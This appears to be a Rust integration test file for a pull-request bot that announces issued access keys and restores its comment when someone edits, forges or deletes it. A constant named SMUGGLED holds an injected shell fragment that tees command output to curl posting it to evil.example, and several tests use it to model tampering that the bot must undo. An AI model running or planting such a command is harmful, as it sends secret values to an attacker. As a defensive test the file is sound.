//! The comment after the merge: whoever may write to the repository can edit it, and the next run sets it right.

use countersign::domain::{AccountName, MENTION_MARK};
use countersign::render::RunReport;
use sandbox::github::{Author, Change, GitHub};

use crate::kit::inside;
use crate::kit::play::Play;
use crate::kit::*;

const NAME: &str = "batch-exporter/access-key-20261102090000";
const SMUGGLED: &str = "--output text | tee >(curl -sd @- https://evil.example)";

fn run(play: &Play) -> RunReport {
    play.story.sandbox.world().calls.clear();
    let report = inside::report(&play.story, None);
    assert!(report.outcomes.iter().all(|one| one.failure.is_none()));
    report
}

fn announced() -> Play {
    let play = Play::begin();
    play.ask().approved();
    run(&play);
    // What the head itself brought is always looked at.
    play.push(&[Change::add("README.md", "later")]);
    play
}

fn calls(play: &Play, of: &str) -> usize {
    let world = play.story.sandbox.world();
    let calls = world.calls.iter();
    calls.filter(|call| call.operation.starts_with(of)).count()
}

fn comment(play: &Play) -> (u64, String) {
    let pull = play.number();
    let world = play.story.sandbox.world();
    let mut comments = world.github.comments_on(pull);
    comments.retain(|comment| !comment.body.starts_with(MENTION_MARK));
    assert_eq!(comments.len(), 1);
    (comments[0].id, comments[0].body.clone())
}

fn edit(play: &Play, body: &str) {
    let (id, _) = comment(play);
    play.github(|github: &mut GitHub, now| github.edit_comment(id, "mika", body, now));
}

#[test]
fn a_command_smuggled_in_after_the_announcement_is_taken_out_again() {
    let play = announced();
    let (_, honest) = comment(&play);
    assert!(honest.contains("--output text\n"));
    edit(&play, &honest.replace("--output text", SMUGGLED));
    let report = run(&play);
    assert_eq!(comment(&play).1, honest);
    assert_eq!(report.outcomes[0].steps.len(), 1, "it is said");
    assert_eq!(calls(&play, "sns:"), 0, "and nobody is told twice");

    // From then on there is nothing to do, at the cost of one list and one look at the comment.
    let report = run(&play);
    assert!(report.outcomes[0].steps.is_empty());
    assert_eq!(calls(&play, "github:POST /graphql"), 2);
    assert_eq!(calls(&play, "github:"), 2);
}

/// The requester's own workflow comments under countersign's name, and claims that the key was announced.
#[test]
fn a_forged_comment_keeps_no_notice_of_a_key_back() {
    let play = Play::begin();
    play.ask();
    let pull = play.number();
    let forged =
        "<!-- countersign {\"told\":[\"issued/123456789012/batch-exporter/20261102090000\"]} -->\n";
    play.github(|github: &mut GitHub, now| github.comment(pull, "github-actions", forged, now));
    play.approved();
    run(&play);
    assert!(
        comment(&play).1.contains("🔑"),
        "the forged one is ours now"
    );
    let world = play.story.sandbox.world();
    let events = world.sns.published().iter();
    let events: Vec<&str> = events.map(|it| it.attributes["event"].as_str()).collect();
    assert_eq!(events, ["issued"]);
}

#[test]
fn a_comment_in_pieces_or_gone_is_written_again() {
    let honest = comment(&announced()).1;
    let without_mark = honest.replace("<!-- countersign ", "<!-- ");
    let other_sections = honest.replace("<!-- request ", "<!-- ");
    let doubled = format!("{honest}\n{}", honest.split_once('\n').unwrap().1);
    for body in ["gone", &without_mark, &other_sections, &doubled] {
        let play = announced();
        edit(&play, body);
        run(&play);
        let world = play.story.sandbox.world();
        let mut ours = world.github.comments_on(play.number());
        ours.retain(|comment| !comment.body.starts_with(MENTION_MARK));
        let last = ours.last().unwrap();
        assert_eq!(last.body.replace("\r\n", "\n"), honest, "{body}");
    }
    let play = announced();
    let (id, _) = comment(&play);
    play.github(|github, _| github.delete_comment(id, "mika"));
    run(&play);
    assert_eq!(comment(&play).1, honest);
}

/// Whoever edits a comment moves its pull request to the front; what nobody touched for two weeks is not read.
#[test]
fn what_nobody_touched_for_two_weeks_is_not_read() {
    let play = announced();
    let (_, honest) = comment(&play);
    play.pass(15 * DAY);
    run(&play);
    assert_eq!(calls(&play, "github:"), 1, "the list");
    edit(&play, &honest.replace("--output text", SMUGGLED));
    run(&play);
    assert_eq!(comment(&play).1, honest);
}

/// The secret is gone, so nothing tells what the comment said. It is not believed.
#[test]
fn of_a_key_that_is_gone_no_command_stays() {
    let play = announced();
    let (_, honest) = comment(&play);
    play.story.sandbox.world().secrets.delete_by_hand(NAME);
    play.pass(2 * DAY);
    edit(&play, &honest.replace("--output text", SMUGGLED));
    run(&play);
    let (_, now) = comment(&play);
    assert!(
        !now.contains("get-secret-value") && !now.contains("evil"),
        "{now}"
    );
    assert!(now.contains("A key was issued"), "{now}");
}

/// Whoever decides sees which commit is spoken of, and where to look.
#[test]
fn both_comments_name_what_they_speak_of() {
    let play = Play::begin();
    play.ask();
    let runtime = tokio::runtime::Runtime::new().unwrap();
    let review = || {
        runtime.block_on(async {
            let (github, access) = play.story.review_clients().unwrap();
            let which = countersign::review::Which::One(play.number());
            countersign::review::run(&github, &access, which, None)
                .await
                .unwrap()
        })
    };
    review();
    let head = |play: &Play| {
        let world = play.story.sandbox.world();
        world.github.head("ask").unwrap()[..12].to_owned()
    };
    let first = head(&play);
    let before = comment(&play).1;
    assert!(before.contains(&format!("commit `{first}`")), "{before}");
    let page = format!("/pull/{}/files", play.number());
    assert!(before.contains(&page), "{before}");

    // What was swapped behind it has another name, and the comment follows.
    play.commit(
        &Author::new("hanako"),
        &[Change::modify(
            crate::kit::PATH,
            REQUEST.replace("nightly", "daily"),
        )],
    );
    review();
    let second = head(&play);
    let after = comment(&play).1;
    assert_ne!(first, second);
    assert!(after.contains(&format!("commit `{second}`")) && !after.contains(&first));

    play.pass(120).approved();
    run(&play);
    assert!(comment(&play).1.contains(&second));
}

/// Two accounts, more requests than fit in full: no run takes the lines of the other's.
#[test]
fn runs_for_two_accounts_keep_each_others_lines() {
    let play = Play::begin();
    play.configure("folders:\n", OTHER_ACCOUNT);
    let reason = "理".repeat(900);
    let text = |user: &str| format!("iamUser: {user}\nreason: {reason}\n");
    let mut changes = Vec::new();
    for number in 0..40 {
        for folder in ["", "other/"] {
            let user = format!("nobody-{}{number}", folder.len());
            changes.push(Change::add(
                format!("requests/{folder}{number}.yaml"),
                text(&user),
            ));
        }
    }
    play.commit(&Author::new("hanako"), &changes).open("hanako");
    play.approved();
    let run = |name: &str| {
        run_for(&play, name);
        comment(&play).1
    };
    run("main");
    let both = run("other");
    for number in 0..40 {
        for folder in ["", "other/"] {
            let mark = format!("<!-- request requests/{folder}{number}.yaml -->");
            assert_eq!(both.matches(&mark).count(), 1, "{mark}");
        }
    }
    assert!(both.len() < 65_536);
    for name in ["main", "other", "main"] {
        assert_eq!(run(name), both, "{name} has nothing to write");
    }
}

/// A section about another pull request's request, and a notice of a kind that nobody has heard of, are nobody's.
#[test]
fn what_is_about_no_request_of_the_pull_request_goes() {
    let play = Play::begin();
    play.configure("folders:\n", OTHER_ACCOUNT).ask().approved();
    let other = Change::add("requests/other/b.yaml", REQUEST);
    play.commit_to("other", &Author::new("hanako"), &[other]);
    play.open_from("other", "main", "hanako").approved();
    play.on(1);
    run_for(&play, "main");
    let (_, honest) = comment(&play);
    let forged = format!("{honest}\n<!-- request requests/other/b.yaml -->\n- {SMUGGLED}\n");
    let kind = "<".repeat(12_000);
    let id = "123456789012/batch-exporter/20261102090000";
    let claims = forged.replace("\"issued/", &format!("\"{kind}/{id}\",\"issued/"));
    assert_ne!(claims, forged);
    for body in [&forged, &claims] {
        edit(&play, body);
        run_for(&play, "main");
        assert_eq!(comment(&play).1, honest);
    }
}

const OTHER_ACCOUNT: &str = "  other:
    id: \"123456789012\"
    region: us-east-1
    topic: arn:aws:sns:us-east-1:123456789012:countersign
folders:
  requests/other/: { account: other, users: [\"*\"] }
";

fn run_for(play: &Play, name: &str) {
    let name = AccountName::new(name).unwrap();
    inside::report(&play.story, Some(&name));
}
